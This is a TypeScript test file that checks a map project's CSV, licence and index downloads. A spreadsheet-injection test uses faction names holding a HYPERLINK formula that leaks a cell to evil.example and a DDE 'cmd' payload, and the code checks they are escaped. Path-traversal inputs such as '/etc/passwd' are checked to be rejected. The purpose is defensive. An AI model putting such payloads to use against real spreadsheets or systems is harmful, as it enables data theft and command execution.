/**
 * The reader's downloads, made from the bundled story and from the second story (no stats, no
 * licence): what each file holds, read back as a reader's tool would. A date's map is its
 * snapshot file itself (src/ui/data-panel.ts links it), so none is written here.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseDownloads } from '../src/data/downloads.ts';
import { areasCsv, eventsCsv, readEvents, readStoryFiles, sourcesCsv, writeDownloads } from './downloads.ts';
import { parseEvents } from '../src/data/events.ts';

const tmp = mkdtempSync(join(tmpdir(), 'frontlines-downloads-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** RFC 4180 rows, enough for the files made here (quoted cells with commas and quotes). */
const csvRows = (text: string) => text.trimEnd().split('\r\n').map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].slice(0, -1).map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"')));

describe('the bundled story', () => {
  const s = readStoryFiles('data');
  it('CSV: held and desert for every side on every date, contested where stats.json has it, the figures as they are', () => {
    const rows = csvRows(areasCsv(s, s.stats!));
    expect(rows[0]).toEqual(['date', 'side', 'side_name', 'tier', 'area_km2']);
    const contested = [...s.stats!.values()].reduce((n, st) => n + Object.keys(st.areaKm2.contested ?? {}).length, 0);
    expect(rows.length - 1).toBe(s.stats!.size * s.factions.length * 2 + contested);
    const july = s.stats!.get('2017-07-15')!;
    for (const f of s.factions) {
      const held = rows.find((r) => r[0] === '2017-07-15' && r[1] === f.id && r[3] === 'held')!;
      expect(held[2]).toBe(f.name.en);
      expect(Number(held[4])).toBe(july.areaKm2.held[f.id] ?? 0);
    }
  });

  it('CSV: a side named like a spreadsheet formula is written as text, with a leading apostrophe (issue 23)', () => {
    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1', '-1', '\t=1', '\r=1'];
    const factions = s.factions.map((f, i) => ({ ...f, name: { ...f.name, en: names[i]! } }));
    const text = areasCsv({ ...s, factions }, s.stats!);
    for (const name of names) expect(text).toContain(`'${name.replace(/"/g, '""')}`);
    expect(text).toContain(',"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",');
    const held = csvRows(text).find((r) => r[0] === '2017-07-15' && r[1] === factions[1]!.id && r[3] === 'held')!;
    expect(held[2]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(Number(held[4])).toBe(s.stats!.get('2017-07-15')!.areaKm2.held[factions[1]!.id] ?? 0);
  });

  it('sources CSV: every date\'s sources and precision note, one row per source, as the index has them', () => {
    const rows = csvRows(sourcesCsv(s));
    expect(rows[0]).toEqual(['date', 'file', 'precision', 'source']);
    expect(rows.length - 1).toBe(s.entries.reduce((n, e) => n + Math.max(1, e.sources.length), 0));
    const entry = s.entries.find((e) => e.dateIso === '2017-07-15')!;
    const july = rows.filter((r) => r[0] === '2017-07-15');
    expect(july.map((r) => r[3])).toEqual(entry.sources);
    for (const r of july) expect([r[1], r[2]]).toEqual([entry.file, entry.precision]);
  });
});

describe('writeDownloads', () => {
  it('writes the sources, the CSV, the licence and an index the page can read, and no copy of any snapshot', () => {
    const out = join(tmp, 'bundled');
    const { problems } = writeDownloads('data', out);
    expect(problems).toEqual([]);
    const index = parseDownloads(JSON.parse(readFileSync(join(out, 'index.json'), 'utf8')), 'index.json');
    expect(index.ok && index.value).toEqual({ sources: 'frontlines-sources.csv', csv: 'frontlines-areas.csv', licence: 'frontlines-licence.txt', events: 'frontlines-events.csv' });
    expect(readdirSync(out).sort()).toEqual(['frontlines-areas.csv', 'frontlines-events.csv', 'frontlines-licence.txt', 'frontlines-sources.csv', 'index.json']);
    const licence = readFileSync(join(out, 'frontlines-licence.txt'), 'utf8');
    expect(licence).toContain('Licence of the data: CC BY 4.0');
    expect(licence).toContain('frontlines-sources.csv: the sources and the precision note of every date');
    expect(licence).toContain('- frontlines-events.csv: the story\'s dated events');
  });

  it('for a story without stats.json or a licence: no CSV, and the licence file says none is stated', () => {
    const out = join(tmp, 'story-b');
    expect(writeDownloads('tests/fixtures/story-b', out).problems).toEqual([]);
    const index = JSON.parse(readFileSync(join(out, 'index.json'), 'utf8'));
    expect(index.csv).toBeNull();
    expect(index.events).toBeNull();
    expect(new Set(csvRows(readFileSync(join(out, 'frontlines-sources.csv'), 'utf8')).slice(1).map((r) => r[0]))).toEqual(new Set(['2024-01-01', '2024-04-01', '2024-07-01']));
    const text = readFileSync(join(out, 'frontlines-licence.txt'), 'utf8');
    expect(text).toMatch(/^The river war \(Three sides, three dates\)/);
    expect(text).toContain('not stated in story.json');
    expect(text).not.toContain('frontlines-areas.csv');
  });

  it('makes no downloads when a core file is broken, and says which', () => {
    const dir = join(tmp, 'broken');
    cpSync('tests/fixtures/story-b', dir, { recursive: true });
    writeFileSync(join(dir, 'factions.json'), '{"factions": [');
    const r = writeDownloads(dir, join(dir, 'downloads'));
    expect(r.files).toBe(0);
    expect(r.problems[0]).toMatch(/^no downloads: .*factions\.json/);
  });
});

describe('the events as CSV', () => {
  const read = readEvents('data');
  if (!read || !('events' in read)) throw new Error('data/events.json did not read');
  const rows = csvRows(eventsCsv(read.events, read.placeNames));
  it('one row per event in date order, with its status, both languages, place, what settled it and every source', () => {
    expect(rows[0]).toEqual(['id', 'date', 'status', 'title_en', 'title_nl', 'text_en', 'text_nl', 'place', 'place_name', 'settled_date', 'settled_source', 'sources']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(read.events.map((e) => e.id));
    const raw = JSON.parse(readFileSync('data/events.json', 'utf8')).events as { id: string; date: string; status: string; title: { nl: string }; place?: string; sources: string[]; settled?: { date: string } }[];
    for (const e of raw) {
      const row = rows.find((r) => r[0] === e.id)!;
      expect([row[1], row[2], row[4], row[7], row[9], row[11]]).toEqual([e.date, e.status, e.title.nl, e.place ?? '', e.settled?.date ?? '', e.sources.join(' | ')]);
    }
    expect(rows.some((r) => r[2] === 'claimed') && rows.some((r) => r[2] === 'disproved' && r[10] !== '')).toBe(true);
  });
  it('a cell with commas, quotes or line breaks reads back as written', () => {
    const r = parseEvents({ events: [{ id: 'q', date: '2024-05', title: { en: 'Say "no", then\nleave', nl: 'x' }, status: 'confirmed', sources: ['a, b'] }] }, 'f');
    if (!r.ok) throw new Error('did not parse');
    const text = eventsCsv(r.value, new Map());
    expect(text.split('\r\n')[1]).toBe('q,2024-05,confirmed,"Say ""no"", then\nleave",x,,,,,,,"a, b"');
  });
  it('a broken events.json leaves out only the events\' CSV, and says why', () => {
    const dir = join(tmp, 'broken-events');
    cpSync('tests/fixtures/story-b', dir, { recursive: true });
    writeFileSync(join(dir, 'events.json'), '{"events": [{"id": "x"}]}');
    const r = writeDownloads(dir, join(dir, 'downloads'));
    expect(r.problems).toEqual(['no frontlines-events.csv: data/events.json: events[0] (x): "date" must be a date written YYYY-MM-DD, or YYYY-MM when only the month is known; got undefined']);
    expect(JSON.parse(readFileSync(join(dir, 'downloads', 'index.json'), 'utf8')).events).toBeNull();
    // The rest is made as usual.
    expect(readdirSync(join(dir, 'downloads')).sort()).toEqual(['frontlines-licence.txt', 'frontlines-sources.csv', 'index.json']);
  });
});

describe('parseDownloads', () => {
  it('takes only plain file names, so the page never links elsewhere', () => {
    const ok = { sources: 'frontlines-sources.csv', csv: 'a.csv', licence: null };
    expect(parseDownloads(ok, 'f').ok).toBe(true);
    for (const bad of ['../stats.json', 'https://evil.example/x.csv', '.hidden', 'a b.csv']) {
      const r = parseDownloads({ ...ok, sources: bad }, 'data/downloads/index.json');
      expect(r.ok ? 'accepted' : r.problems[0]!.message).toMatch(/^"sources": expected/);
    }
    const r = parseDownloads({ ...ok, csv: '/etc/passwd' }, 'f');
    expect(r.ok ? '' : r.problems[0]!.message).toMatch(/^"csv": expected/);
    expect(parseDownloads([], 'f').ok).toBe(false);
  });
});
